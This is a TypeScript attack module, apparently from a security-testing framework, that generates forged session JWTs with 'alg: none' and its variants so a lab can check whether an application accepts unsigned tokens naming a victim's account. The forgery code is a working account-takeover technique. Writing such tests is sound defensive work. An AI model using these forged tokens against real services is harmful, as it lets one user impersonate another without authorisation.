import { defineAttack } from '../../src/contract/attack.ts'
import type { Json } from '../../src/contract/json.ts'
import { type ForgedJwts, type Forgery, type Holder, judgeForgedJwts, observeForgedJwts } from '../kit/forged-jwt.ts'
import { encodeJson, joinJwt, payloadFor } from '../kit/jwt.ts'

/** Spellings by which libraries have let `none` through (jwt_tool's playbook; RFC 8725, 3.1 and 3.2). `undefined` leaves the field out. */
const ALGORITHMS: readonly (readonly [string, Json | undefined])[] = [
  ['none', 'none'],
  ['None', 'None'],
  ['NONE', 'NONE'],
  ['nOnE', 'nOnE'],
  ['empty', ''],
  ['null', null],
  ['absent', undefined],
  ['a list', ['none']],
]

export default defineAttack<ForgedJwts>({
  meta: {
    id: 'ft-jwt-alg-none',
    family: 'forged-token',
    title: 'Session JWT with algorithm none',
    about:
      "Rewrites an own session token to declare that it needs no signature and to name a victim's account. Success means that anybody is anybody.",
    severity: 'critical',
    cwe: [347, 757],
    asvs: ['9.1.1', '9.1.2'],
    api2023: ['API2'],
    has: 'an own session token; the victim is named by account id, which is no secret',
    needs: ['oneTap', 'me'],
    notices: ['jwt-signature=alg-none'],
  },

  observe: lab => observeForgedJwts(lab, unsigned),

  judge: observation => judgeForgedJwts(observation, 'Session tokens that declare no signature'),
})

function unsigned(own: Holder, victim: Holder): Forgery[] {
  const { jwt } = own
  const payloads = {
    'own claims': jwt.payload,
    "victim's account": encodeJson(payloadFor(jwt, own.account, victim.jwt, victim.account)),
    "victim's claims": encodeJson(victim.jwt.payloadJson),
  }
  const forgeries: Forgery[] = []
  for (const [algorithm, alg] of ALGORITHMS) {
    const { alg: _genuine, ...rest } = jwt.headerJson
    const header = encodeJson(alg === undefined ? rest : { ...rest, alg })
    for (const [claims, payload] of Object.entries(payloads)) {
      forgeries.push(
        { name: `alg ${algorithm}, ${claims}, empty signature`, credential: joinJwt(jwt, header, payload, '') },
        { name: `alg ${algorithm}, ${claims}, old signature`, credential: joinJwt(jwt, header, payload, jwt.signature) },
        { name: `alg ${algorithm}, ${claims}, no third part`, credential: joinJwt(jwt, header, payload) },
      )
    }
  }
  return forgeries
}
